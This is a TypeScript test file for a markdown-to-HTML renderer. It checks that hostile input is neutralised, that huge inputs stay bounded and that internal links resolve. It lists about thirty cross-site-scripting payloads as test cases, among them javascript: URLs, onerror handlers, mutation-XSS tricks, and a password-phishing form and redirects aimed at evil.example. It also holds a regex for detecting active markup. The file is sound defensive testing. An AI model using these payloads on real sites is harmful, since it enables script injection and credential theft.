import { describe, expect, it, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';
import { ROOT_MARK, linkResolver } from './clean-markup.ts';

const files = ['docs/guide.md', 'src/a b.ts', 'LICENSE'];
const resolve = linkResolver({
  pageOf: (file) => (files.includes(file) ? `page/${encodeURIComponent(file)}` : undefined),
  list: 'files/',
  hasFolder: (folder) => ['docs', 'src'].includes(folder),
});

function render(text: string): string {
  const { html } = renderMarkdown(text, { prefix: 'p-', level: 3, resolve });
  return html.toString();
}

/** What could run, load, submit, style or take over the page. */
const ACTIVE =
  /<(?:script|iframe|object|embed|form|base|meta|link|style|svg|math|button|textarea|select|video|audio|template)|<[^>]+\s(?:on\w+|style|srcdoc|formaction|id="(?!p-)|name|class="(?!t[a-z]"|hidden))|(?:href|src)="\s*(?:javascript|data|vbscript|file|blob):/i;

/** Without text, escaped markup and titles, which browsers only show. */
function activeParts(markup: string): string {
  return markup.replace(/&lt;[\s\S]*?&gt;/g, '').replace(/ title="[^"]*"/g, '');
}

describe('renderMarkdown() of hostile text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://a.example/x.png" onerror="alert(1)" style="position:fixed">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x](http://a.example/x.png)',
    '<a href="vbscript:x">x</a><a href="//evil.example">y</a><a href="\\\\evil.example">z</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input type=password><button>Go</button></form>',
    '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<p id="location" name="cookie" class="site-header">x</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<a href="x" onclick="alert(1)" target=_blank style="position:fixed;inset:0">x</a>',
    '```html\n<script>alert(1)</script>\n```',
    '`<script>alert(1)</script>`',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    '# <img src=x onerror=alert(1)>',
    '| a | <script>alert(1)</script> |\n|---|---|\n| <iframe> | x |',
  ])('leaves nothing active of %j', (text) => {
    expect(activeParts(render(text))).not.toMatch(ACTIVE);
  });

  it('shows characters that hide or turn text around', () => {
    const out = render('user \u202Eexe.txt\u2066 `a\u200Bb` \u{E0041}');
    expect(out).toContain('user [U+202E]exe.txt[U+2066]');
    expect(out).toContain('U+200B');
    expect(out).toContain('[U+E0041]');
    expect(out).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u{E0000}-\u{E007F}]/u);
  });

  it.each([
    ['a broken fence', `\`\`\`ts\nconst a = 1;\n${'x\n'.repeat(5)}`],
    ['a huge table', `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(40_000)}`],
    ['many links', '[a](https://a.example) '.repeat(10_000)],
    ['deep quotes', '>'.repeat(5_000)],
    ['deep lists', Array.from({ length: 500 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n')],
    ['deep markup', '<div>'.repeat(20_000)],
    ['brackets', '['.repeat(60_000)],
    ['half a megabyte of text', 'word '.repeat(100_000)],
    ['a megabyte of ">"', '>'.repeat(1_000_000)],
  ])('bounds %s', (_, text) => {
    const out = render(text);
    expect(out.length).toBeLessThan(1_200_000);
    expect(out).not.toMatch(ACTIVE);
  });
});

test.each([
  ['[x](docs/guide.md#top)', `href="${ROOT_MARK}page/docs%2Fguide.md"`],
  ['[x](./src/a%20b.ts)', `href="${ROOT_MARK}page/src%2Fa%20b.ts"`],
  ['[x](/LICENSE)', `href="${ROOT_MARK}page/LICENSE"`],
  ['[x](docs/)', `href="${ROOT_MARK}files/"`],
  ['[x](https://a.example)', 'href="https://a.example" rel="nofollow ugc noopener"'],
  ['[x](#Rate-limits)', 'href="#p-rate-limits"'],
  ['![logo](https://a.example/x.png)', 'loading="lazy" referrerpolicy="no-referrer"'],
])('renderMarkdown() resolves %s', (text, expected) => {
  expect(render(text)).toContain(expected);
});

test.each(['[x](missing.md)', '[x](../other)', '[x](%zz)', '![logo](docs/logo.png)'])(
  'renderMarkdown() leaves %s without a link',
  (text) => {
    expect(render(text)).not.toMatch(/href|src=/);
  },
);

test('renderMarkdown() places headings without gaps and makes contents', () => {
  const options = { prefix: 'readme-', level: 3, resolve };
  const text = '# A & B\n\n### Deep\n\n## Next\n\n## Next\n';
  const { html, headings } = renderMarkdown(text, options);
  expect(headings).toEqual([
    { id: 'readme-a--b', text: 'A & B', depth: 1 },
    { id: 'readme-deep', text: 'Deep', depth: 2 },
    { id: 'readme-next', text: 'Next', depth: 2 },
    { id: 'readme-next-1', text: 'Next', depth: 2 },
  ]);
  expect(html.toString()).toContain('<h3 id="readme-a--b">A &amp; B</h3>');
  expect(html.toString()).toContain('<h4 id="readme-deep">Deep</h4>');
});

test('renderMarkdown() colours fences', () => {
  expect(render('```ts\nconst a = 1;\n```')).toContain(
    '<pre tabindex="0"><code><span class="tk">const</span>',
  );
});
